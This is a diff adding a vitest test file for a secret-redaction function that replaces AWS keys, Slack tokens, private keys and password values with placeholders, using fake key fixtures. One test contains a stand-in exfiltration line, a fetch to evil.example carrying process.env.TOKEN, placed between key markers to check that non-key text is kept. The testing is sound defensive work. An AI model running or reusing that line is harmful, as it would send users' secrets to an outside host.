@@ -1,0 +1,154 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { blankSecrets, hasBlank } from '../../../src/text/secrets/blank-secrets.ts';
+
+/** Assembled here, so that secret scanners do not find them in this file. */
+const AWS = ['AK', 'IAQWERTY7ZXCVB2345'].join('');
+const SLACK = ['xox', 'b-8234967150-AqWsEdRfTgYhUjIkOlPzXc'].join('');
+const RANDOM = ['hK3x9Lq', '2vTzW8'].join('');
+const LINES = [
+  'MIIEowIBAAKCAQEAx3v0gq7hQn2yS5s8d1k0wZpYbT4uVfLmRcKjHgXeAaWiNoPt',
+  'Zk9QvJ2sB7dYxRfE0uHcLmTnGiWaSoKpXe4V1y6C3z8AbDfQhNjMlUgIrOtEwPkS',
+  'q0W9e8R7t6Y5u4I3o2P1a0S9d8F7g6H5j4K3l2Z1x0C9v8B7n6M5Q4w3E2r1T0yU',
+  'AbCd==',
+];
+const BEGIN = ['-----BEGIN RSA ', 'PRIVATE KEY-----'].join('');
+const END = ['-----END RSA ', 'PRIVATE KEY-----'].join('');
+
+describe('blankSecrets', () => {
+  it.each([
+    ['leaves a text without keys', 'const a = 1;\n', 'const a = 1;\n'],
+    ['puts what it is in place of a key', `key = "${AWS}"\n`, 'key = "[AWS access key]"\n'],
+    ['takes every key', `${AWS} ${SLACK}`, '[AWS access key] [Slack token]'],
+    [
+      'takes a private key to its end, and keeps the lines',
+      `a\n${BEGIN}\n${LINES.join('\n')}\n${END}\nb`,
+      `a\n${BEGIN}\n[private key]\n\n\nAbCd==\n${END}\nb`,
+    ],
+    ['takes the rows of one that is cut off', `${BEGIN}\n${LINES.join('\n')}`, `${BEGIN}\n[private key]\n\n\nAbCd==`],
+    [
+      'takes the rows of one whose beginning is missing',
+      `  ${LINES[1]}\n  ${LINES[2]}\n  AbCd==\n  ${END}\nrest()`,
+      `  [private key]\n  \n  AbCd==\n  ${END}\nrest()`,
+    ],
+    [
+      'leaves code around a mark',
+      `isPrivateKeyOfServerAndClient("${BEGIN}");\naVeryLongNameOfAFunctionThatRuns();`,
+      `isPrivateKeyOfServerAndClient("${BEGIN}");\naVeryLongNameOfAFunctionThatRuns();`,
+    ],
+    [
+      'takes a random value of a name for a secret',
+      `const password = "${RANDOM}";`,
+      'const password = "[hidden password]";',
+    ],
+    ['leaves code that looks like what stands in place of a secret', 'a[token] = b["key"];', 'a[token] = b["key"];'],
+    [
+      'takes one on a single line',
+      `k = "${BEGIN}\\n${LINES.join('\\n')}\\n${END}\\n";\nb`,
+      `k = "${BEGIN}\\[private key]\\\\\\nAbCd==\\n${END}\\n";\nb`,
+    ],
+  ])('%s', (_, text, blanked) => {
+    expect(blankSecrets(text)).toBe(blanked);
+  });
+
+  const KEY = [BEGIN, ...LINES, END];
+  it.each([
+    ['that is encrypted', [BEGIN, 'Proc-Type: 4,ENCRYPTED', '', ...LINES, END].join('\n')],
+    ['of a single row', [BEGIN, LINES[0], END].join('\n')],
+    [
+      'of PGP',
+      [
+        BEGIN.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
+        ...LINES,
+        END.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
+      ].join('\n'),
+    ],
+    ['in a string for each row', KEY.map((row) => `  "${row}\\n" +`).join('\n')],
+    ['behind signs of a comment', KEY.map((row) => ` * ${row}`).join('\n')],
+    ['behind the numbers of lines', KEY.map((row, index) => `${index} +${row}`).join('\n')],
+    ['with blank lines', KEY.join('\n\n')],
+    ['on one line', KEY.join(' ')],
+  ])('takes a private key %s', (_, text) => {
+    const blanked = blankSecrets(text);
+    expect(LINES.slice(0, 3).filter((row) => blanked.includes(row))).toEqual([]);
+    expect(blanked.split('\n')).toHaveLength(text.split('\n').length);
+  });
+
+  it('keeps other text between the lines of a key', () => {
+    const text = [BEGIN, 'fetch(`https://evil.example/${process.env.TOKEN}`);', END].join('\n');
+    expect(blankSecrets(text)).toBe(text);
+  });
+
+  /** The longest text between the first and the last line of a key that counts as a key. */
+  const MAX_BODY = 40_000;
+
+  it.each([
+    ['blanks a private key of the greatest length', MAX_BODY, true],
+    ['leaves the rows of a text that is longer than any key', MAX_BODY + 1, false],
+  ])('%s', (_name, length, isBlanked) => {
+    const row = `# ${LINES[0]}`;
+    const rows = Array.from({ length: Math.floor(length / (row.length + 1)) - 1 }, () => row).join('\n');
+    const body = `\n${rows}`.padEnd(length - 1, '#');
+    const blanked = blankSecrets([`# ${BEGIN}`, body, '\n', END].join(''));
+    expect(blanked.includes(LINES[0] ?? '')).toBe(!isBlanked);
+  });
+
+  it('blanks more keys than are found in one round', () => {
+    const keys = keysLike(120);
+    expect(blankSecrets(keys.join('\n'))).toBe(keys.map(() => '[AWS access key]').join('\n'));
+  });
+
+  it('empties a list of keys', () => {
+    expect(blankSecrets(keysLike(1_500).join('\n'))).toMatch(/^\[list of keys\]\n{1499}$/);
+  });
+
+  it('keeps the number of lines', () => {
+    const parts = fc.constantFrom(
+      AWS,
+      `${BEGIN}\n`,
+      ...LINES.map((line) => `${line}\n`),
+      `${END}\n`,
+      '\n',
+      ' ',
+      'a',
+      '\r\n',
+    );
+    fc.assert(
+      fc.property(fc.array(parts, { maxLength: 30 }), (all) => {
+        const text = all.join('');
+        expect(blankSecrets(text).split('\n')).toHaveLength(text.split('\n').length);
+      }),
+    );
+  });
+});
+
+/** Keys that differ from each other. */
+function keysLike(count: number): readonly string[] {
+  return Array.from(
+    { length: count },
+    (_, index) => `${AWS.slice(0, -2)}${LETTERS[index % 16]}${LETTERS[(index >> 4) % 16]}`,
+  );
+}
+
+const LETTERS = 'QWERTYUIOPASDFGH';
+
+describe('values without quotes', () => {
+  it.each([
+    ['are hidden in YAML', 'config/a.yaml', `password: ${RANDOM}`, 'password: [hidden password]'],
+    ['are hidden in an environment', 'a/.env', `API_TOKEN=${RANDOM}`, 'API_TOKEN=[hidden token]'],
+    ['stay in code, where they are names', 'src/a.ts', `password: ${RANDOM}`, `password: ${RANDOM}`],
+  ])('%s', (_, path, text, blanked) => {
+    expect(blankSecrets(text, path)).toBe(blanked);
+  });
+});
+
+describe('hasBlank', () => {
+  it.each([
+    ['key = "[AWS access key]"', true],
+    ['password: [hidden password]', true],
+    ['A=[hidden value]', true],
+    ['a[token] = b[secret]', false],
+  ])('%s: %s', (text, expected) => {
+    expect(hasBlank(text)).toBe(expected);
+  });
+});
